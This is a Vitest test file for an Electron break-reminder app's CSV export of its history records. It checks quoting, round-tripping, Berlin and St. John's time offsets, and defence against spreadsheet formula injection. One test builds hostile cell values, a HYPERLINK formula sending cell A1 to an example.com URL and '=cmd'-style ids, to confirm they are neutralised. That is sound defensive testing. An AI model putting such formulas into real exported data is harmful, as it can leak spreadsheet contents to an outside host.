import { beforeAll, describe, expect, it } from 'vitest';
import {
  HISTORY_CSV_COLUMNS,
  historyToCsv,
  localIsoTime,
} from '../../electron/main/core/historyCsv';
import { historyRecordSchema, type HistoryRecord } from '../../electron/shared/historySchema';
import { parseCsv } from '../support/csv';
import { inTimeZone } from '../support/timeZone';

inTimeZone('Europe/Berlin');

const local = (
  year: number,
  month: number,
  day: number,
  hour = 0,
  minute = 0,
  second = 0,
  ms = 0,
) => new Date(year, month - 1, day, hour, minute, second, ms).getTime();

/** Turns a CSV row back into the record it came from, using only the CSV's columns. */
function recordFrom(row: Record<string, string>): HistoryRecord {
  const num = (key: string) => {
    const value = Number(row[key]);
    if (row[key] === '' || !Number.isFinite(value))
      throw new Error(`${key} is not a number: ${row[key]}`);
    return value;
  };
  switch (row.type) {
    case 'stretch':
      return historyRecordSchema.parse({
        type: 'stretch',
        start: num('time_ms'),
        end: num('end_ms'),
        sittingMs: num('sitting_ms'),
        endedBy: row.ended_by,
      });
    case 'break':
      return historyRecordSchema.parse({
        type: 'break',
        id: row.break_id,
        at: num('time_ms'),
        outcome: row.outcome,
        routineId: row.routine_id,
        routineTitle: row.routine_title,
        trigger: row.trigger,
        durationMs: num('duration_ms'),
        plannedMs: num('planned_ms'),
        exercises: row.exercises === '' ? [] : row.exercises!.split(';'),
        stepsSkipped: num('steps_skipped'),
      });
    case 'snooze':
      return historyRecordSchema.parse({
        type: 'snooze',
        at: num('time_ms'),
        minutes: num('snooze_minutes'),
        sittingMs: num('sitting_ms'),
      });
    case 'skip':
      return historyRecordSchema.parse({
        type: 'skip',
        at: num('time_ms'),
        sittingMs: num('sitting_ms'),
      });
    case 'feeling':
      return historyRecordSchema.parse({
        type: 'feeling',
        at: num('time_ms'),
        breakId: row.break_id,
        feeling: row.feeling,
      });
    default:
      throw new Error(`Unknown type ${row.type}`);
  }
}

/** Built after the zone is set, since local times depend on it. */
const someRecords = (): HistoryRecord[] => [
  {
    type: 'stretch',
    start: local(2025, 3, 30, 1, 15),
    end: local(2025, 3, 30, 3, 40),
    sittingMs: 5_400_123,
    endedBy: 'sleep',
  },
  {
    type: 'break',
    id: 'k3x9',
    at: local(2025, 3, 30, 3, 41, 7, 250),
    outcome: 'taken',
    routineId: 'desk-reset',
    routineTitle: 'Desk reset, "quick" one',
    trigger: 'reminder',
    durationMs: 181_500,
    plannedMs: 180_000,
    exercises: ['cat-cow', 'wall-angels'],
    stepsSkipped: 1,
  },
  {
    type: 'break',
    id: 'm2',
    at: local(2025, 7, 1, 10),
    outcome: 'skipped',
    routineId: 'my-own',
    routineTitle: 'Line one\r\nline two, with ü and 🙂',
    trigger: 'manual',
    durationMs: 0,
    plannedMs: 120_000,
    exercises: [],
    stepsSkipped: 4,
  },
  { type: 'snooze', at: local(2025, 7, 1, 11), minutes: 10, sittingMs: 2_700_000 },
  { type: 'skip', at: local(2025, 12, 24, 16, 5), sittingMs: 3_000_000 },
  { type: 'feeling', at: local(2025, 3, 30, 3, 45), breakId: 'k3x9', feeling: 'better' },
];

describe('historyToCsv', () => {
  let records: HistoryRecord[] = [];
  let csv = '';
  let header: string[] = [];
  let rows: string[][] = [];
  let asObjects: Record<string, string>[] = [];
  beforeAll(() => {
    records = someRecords();
    csv = historyToCsv(records);
    [header = [], ...rows] = parseCsv(csv);
    asObjects = rows.map((row) =>
      Object.fromEntries(header.map((name, i) => [name, row[i] ?? ''])),
    );
  });

  it('starts with a header and has one row per record, every row as wide as the header', () => {
    expect(header).toEqual(HISTORY_CSV_COLUMNS.map((column) => column.header));
    expect(rows).toHaveLength(records.length);
    for (const row of rows) expect(row).toHaveLength(header.length);
  });

  it('reads back as the same records', () => {
    expect(asObjects.map(recordFrom)).toEqual(records);
  });

  it('quotes only the fields that need it, doubling the quotes inside', () => {
    expect(csv).toContain('"Desk reset, ""quick"" one"');
    expect(csv).toContain('"Line one\r\nline two, with ü and 🙂"');
    expect(csv.split('\r\n')[1]).toMatch(/^stretch,2025-03-30T01:15:00\.000\+01:00,/);
  });

  it('writes local times with their offset, the same instant as the milliseconds beside them', () => {
    for (const row of asObjects) expect(Date.parse(row.time!)).toBe(Number(row.time_ms));
    // Before and after the spring change in Berlin, and a winter day.
    expect(asObjects[0]!.time).toBe('2025-03-30T01:15:00.000+01:00');
    expect(asObjects[0]!.end).toBe('2025-03-30T03:40:00.000+02:00');
    expect(asObjects[1]!.time).toBe('2025-03-30T03:41:07.250+02:00');
    expect(asObjects[4]!.time).toBe('2025-12-24T16:05:00.000+01:00');
  });

  it('joins a feeling to its break through one break_id column', () => {
    expect(asObjects[5]!.break_id).toBe(asObjects[1]!.break_id);
  });

  it('neutralises every text cell a spreadsheet would run as a formula (the OWASP rule)', () => {
    const title = header.indexOf('routine_title');
    const id = header.indexOf('routine_id');
    const base = records[1] as Extract<HistoryRecord, { type: 'break' }>;
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const text = `${start}HYPERLINK("https://example.com/?"&A1,"Open")`;
      const written = historyToCsv([{ ...base, routineTitle: text, routineId: `${start}cmd` }]);
      const [, row] = parseCsv(written);
      // A leading apostrophe makes the cell text, and the field is always in double quotes.
      expect(row![title], JSON.stringify(start)).toBe(`'${text}`);
      expect(row![id], JSON.stringify(start)).toBe(`'${start}cmd`);
      expect(written).toContain(`"'${text.replaceAll('"', '""')}"`);
    }
    // Text that only contains those characters later, and every number, is left as it is.
    const plain = parseCsv(historyToCsv([{ ...base, routineTitle: 'Desk = reset + more' }]))[1]!;
    expect(plain[title]).toBe('Desk = reset + more');
    expect(plain[header.indexOf('duration_ms')]).toBe(String(base.durationMs));
  });

  it('is just the header for an empty history', () => {
    expect(historyToCsv([])).toBe(`${HISTORY_CSV_COLUMNS.map((c) => c.header).join(',')}\r\n`);
  });
});

describe('localIsoTime', () => {
  it('writes negative offsets and half-hour zones', () => {
    const at = Date.UTC(2025, 0, 15, 12, 0, 0);
    process.env.TZ = 'America/St_Johns';
    try {
      expect(localIsoTime(at)).toBe('2025-01-15T08:30:00.000-03:30');
    } finally {
      process.env.TZ = 'Europe/Berlin';
    }
    expect(localIsoTime(at)).toBe('2025-01-15T13:00:00.000+01:00');
  });
});
